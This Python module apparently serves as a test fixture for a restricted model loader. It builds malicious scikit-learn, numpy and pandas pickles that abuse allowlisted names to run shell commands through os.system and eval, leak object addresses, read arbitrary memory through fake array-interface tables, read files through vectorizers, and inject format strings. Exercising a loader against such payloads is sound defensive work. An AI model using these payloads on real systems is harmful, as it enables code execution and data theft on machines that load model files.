"""Models of allowed names that hold what can be called, a file's name, or memory for an array.

Like `hostile_models`: an attack is a function of the payload's shell command, it gives the pickle.
"""

import collections
import functools
import pickle
from collections.abc import Callable
from typing import Any

import numpy as np
import pandas as pd
from numpy._core.numeric import _frombuffer  # type: ignore[attr-defined]
from pandas.core.indexes.base import _new_Index
from scipy.interpolate import BSpline  # type: ignore[import-untyped]
from sklearn.compose import ColumnTransformer, TransformedTargetRegressor, make_column_selector
from sklearn.dummy import DummyClassifier
from sklearn.feature_extraction.text import CountVectorizer, HashingVectorizer, TfidfVectorizer
from sklearn.feature_selection import SelectFromModel
from sklearn.gaussian_process import GaussianProcessRegressor, kernels
from sklearn.linear_model import Ridge
from sklearn.metrics._scorer import _PassthroughScorer, _Scorer
from sklearn.model_selection import FixedThresholdClassifier, GridSearchCV
from sklearn.neighbors import KNeighborsRegressor
from sklearn.pipeline import FeatureUnion, Pipeline, make_pipeline
from sklearn.preprocessing import FunctionTransformer, StandardScaler
from sklearn.svm import SVR
from sklearn.utils import Bunch

Attack = Callable[[str], bytes]

ROWS = np.array([[0.0, 1.0, 2.0], [3.0, 4.0, 5.0]])
VALUES = np.array([1.0, 2.0])
_EVALUATED = "@np.ctypeslib._ctypeslib.os.system({!r})"


class Reduced:
    """Pickled as a call of an allowed function."""

    def __init__(self, function: object, *args: object) -> None:
        """Keep what is called, and with what."""
        self._called = function, args

    def __reduce__(self) -> Any:
        """Give the call."""
        return self._called


def _answer() -> DummyClassifier:
    return DummyClassifier().fit(ROWS, [0, 1])


def _threshold(command: str, variant: str) -> bytes:
    """Make a threshold of a frame, and have its score evaluate the command's text."""
    frame = StandardScaler().fit(ROWS).set_output(transform="pandas")
    wrap: Any = FixedThresholdClassifier
    arguments: dict[str, Any] = {"response_method": "eval"}
    if variant == "partial":
        wrap, arguments = functools.partial(wrap, **arguments), {}
    ask = FunctionTransformer(
        _PassthroughScorer(None), kw_args={"X": _EVALUATED.format(command), "y": [1]}
    )
    steps: list[Any] = [frame, FunctionTransformer(wrap, kw_args=arguments), ask]
    if variant == "union":
        union = FeatureUnion([("asked", make_pipeline(*steps[1:]))])
        union._validate_transformers = np.abs
        steps = [frame, union]
    return pickle.dumps(make_pipeline(*steps, _answer()))


def _frame(hidden: Callable[[pd.DataFrame], object]) -> Attack:
    """Have a threshold call `eval` of a hidden frame, by a list as its method's name."""

    def attack(command: str) -> bytes:
        model = FixedThresholdClassifier(_answer())
        model.estimator_ = hidden(pd.DataFrame({"a": [_EVALUATED.format(command)]}))
        return pickle.dumps(model)

    return attack


def _objects(frame: pd.DataFrame) -> np.ndarray:
    array = np.empty(1, dtype=object)
    array[0] = frame
    return array


def _held(**attributes: Any) -> Attack:
    """Give an honest model attributes of the file's choice."""

    def attack(_: str) -> bytes:
        model = FunctionTransformer()
        vars(model).update(attributes)
        return pickle.dumps(model)

    return attack


def _of(model: Any, **attributes: Any) -> Attack:
    def attack(_: str) -> bytes:
        vars(model).update(attributes)
        return pickle.dumps(model)

    return attack


def _fake(kind: Any, key: str) -> Attack:
    table = {"shape": (4,), "typestr": "<u8", "version": 3, "data": (0xDEAD, False)}
    return lambda _: pickle.dumps(kind(**{key: table}))


def address_leak(_: int) -> bytes:
    """Make an array of numbers over an array of objects: each number is an object's address."""
    estimator = Ridge()
    array = np.empty(1, dtype=object)
    array[0] = estimator
    leak = Reduced(_frombuffer, array, np.dtype("u8"), (1,), "C")
    return pickle.dumps({"object": estimator, "address": leak})


def memory_read(address: int) -> bytes:
    """Make what numpy takes for three numbers at an address of the file's choice."""
    table = {"shape": (3,), "typestr": "<f8", "version": 3, "data": (address, True)}
    return pickle.dumps(Bunch(__array_interface__=table))


def _read(vectorizer: Any) -> Callable[[str], bytes]:
    """Make a pipeline that gives counts of the words in the file that a row names."""
    return lambda _: pickle.dumps(vectorizer)


_SCORER = _Scorer(np.sum, 1, {}, "predict")
_FRAME = pd.DataFrame({"a": [1]})
_MANY: list[Any] = [*range(2000), _FRAME]

CALLABLES: dict[str, Attack] = {
    "a threshold of a frame, scored": lambda command: _threshold(command, "class"),
    "a threshold by a partial": lambda command: _threshold(command, "partial"),
    "a threshold in a union": lambda command: _threshold(command, "union"),
    # what is called
    "a class as a function": _held(func=FixedThresholdClassifier),
    "a type as a function": _held(func=np.str_),
    "a container's class as a function": _held(func=bytearray),
    "a scorer as a function": _held(func=_SCORER),
    "a selector as a function": _held(func=make_column_selector("a")),
    "a kernel as a function": _held(func=kernels.RBF()),
    "a spline as a function": _held(func=BSpline([0, 1, 2, 3], [1, 2], 1)),
    "a polynomial as a function": _held(func=np.poly1d([1, 2])),
    "a partial of a class": _held(func=functools.partial(dict)),
    "a sum that hands out an item": _held(func=np.sum),
    "a partial of a sum": _held(func=functools.partial(np.sum)),
    "a sum over one axis of a row": _held(func=np.sum, kw_args={"axis": 0}),
    "a class in arguments": _held(func=np.abs, kw_args={"a": [({"b": Ridge},)]}),
    "a scorer in arguments": _held(func=np.abs, kw_args={"a": [({"b": _SCORER},)]}),
    "a class in arguments back": _held(inverse_func=np.abs, inv_kw_args={"a": Ridge}),
    "a class under a number": _held(kw_args={1: {2.5: Ridge}}),
    "a class in a set": _held(kw_args={"a": {Ridge}}),
    "a class in a frozen set": _held(kw_args={"a": frozenset((Ridge,))}),
    "a class in a deque": _held(kw_args={"a": collections.deque([Ridge])}),
    "a class in an ordered dict": _held(kw_args=collections.OrderedDict(a=Ridge)),
    "a class in an array": _held(kw_args={"a": np.array([Ridge], dtype=object)}),
    "a class beyond a thousand": _held(kw_args={"a": [*range(2000), Ridge]}),
    "a class in a long tuple": _held(kw_args={"a": (*range(2000), Ridge)}),
    "a class among many arguments": _held(kw_args={**dict.fromkeys(map(str, range(2000))),
                                                   "last": Ridge}),
    "a metric": _of(KNeighborsRegressor(1).fit(ROWS, VALUES), metric=_SCORER),
    "weights": _of(KNeighborsRegressor(1).fit(ROWS, VALUES), weights=Ridge),
    "a kernel's metric": lambda _: pickle.dumps(kernels.PairwiseKernel(metric=_SCORER)),
    "a machine's kernel": _of(SVR().fit(ROWS, VALUES), kernel=_SCORER),
    "a process's optimizer": _of(GaussianProcessRegressor(), optimizer=Ridge),
    "a search's scoring": _of(GridSearchCV(Ridge(), {}), scoring={"a": Ridge}),
    "a scorer of a class": lambda _: pickle.dumps(_Scorer(Ridge, 1, {}, "predict")),
    "a target's function": _of(TransformedTargetRegressor(Ridge()), func=FixedThresholdClassifier),
    "columns by a class": _of(ColumnTransformer([]), transformers_=[("a", "drop", Ridge)]),
    "a method that is another": _of(Ridge().fit(ROWS, VALUES), predict=FixedThresholdClassifier),
    "a tokenizer": _of(CountVectorizer(), tokenizer=Ridge),
    "an analyzer": _of(HashingVectorizer(), analyzer=_SCORER),
    "an importance getter": _of(SelectFromModel(Ridge()), importance_getter="fit.__globals__"),
    # frames
    "a frame by _new_Index": _frame(lambda _: Reduced(_new_Index, pd.DataFrame, {})),
    "a frame in an array of objects": _frame(_objects),
    "a frame in a series": _frame(lambda frame: pd.Series([frame])),
    "a frame in a dict's dict": _frame(lambda frame: {"a": {1.5: frame}}),
    "a frame as a key's default": _frame(
        lambda frame: collections.defaultdict(list, {"a": [frame]})),
    "a frame beyond a thousand": lambda _: pickle.dumps(Pipeline(_MANY)),
    "a frame's blocks": _of(Ridge(), tree_=_FRAME._mgr),
    "a series": _of(Ridge(), tree_=_FRAME["a"]),
    # memory
    "memory by a bunch": _fake(Bunch, "__array_interface__"),
    "memory by a bunch's struct": _fake(Bunch, "__array_struct__"),
    "memory by a dict": _fake(dict, "__array_interface__"),
    "memory by an ordered dict": _fake(collections.OrderedDict, "__array_interface__"),
    "memory by a default": _fake(functools.partial(collections.defaultdict, list), "__array__"),
    "memory by a counter": _fake(collections.Counter, "__array_priority__"),
    "a bunch of data": lambda _: pickle.dumps(Bunch(data=[1])),
    "bytes of an array of objects": lambda _: pickle.dumps(Reduced(
        _frombuffer, np.array([Ridge], dtype=object), np.dtype("u8"), (1,), "C")),
    "bytes of an array": lambda _: pickle.dumps(Reduced(
        _frombuffer, np.zeros(1), np.dtype("u8"), (1,), "C")),
    # files, formats, dispatch
    "a file's name as text": _read(CountVectorizer(input="filename")),
    "a file as text": _read(TfidfVectorizer(input="file")),
    "a file's name, hashed": _read(HashingVectorizer(input="filename")),
    "a file's name as numpy's text": _of(CountVectorizer(), input=np.str_("filename")),
    "a file's name in a pipeline": _read(make_pipeline(CountVectorizer(input="filename"), Ridge())),
    "a folder of pickles": _of(Pipeline([("a", Ridge())]), memory="/tmp"),
    "a format of names": _of(ColumnTransformer([]),
                             verbose_feature_names_out="{feature_name.__class__}"),
    "a codec": _of(CountVectorizer(), encoding="unicode_escape"),
    "an error handler": _of(CountVectorizer(), decode_error="xmlcharrefreplace"),
    "arithmetic for joblib": _of(GridSearchCV(Ridge(), {}), pre_dispatch="9**9**9"),
    "a template of a link": _of(Ridge(), _doc_link_template="{0.__class__}"),
}  # fmt: skip
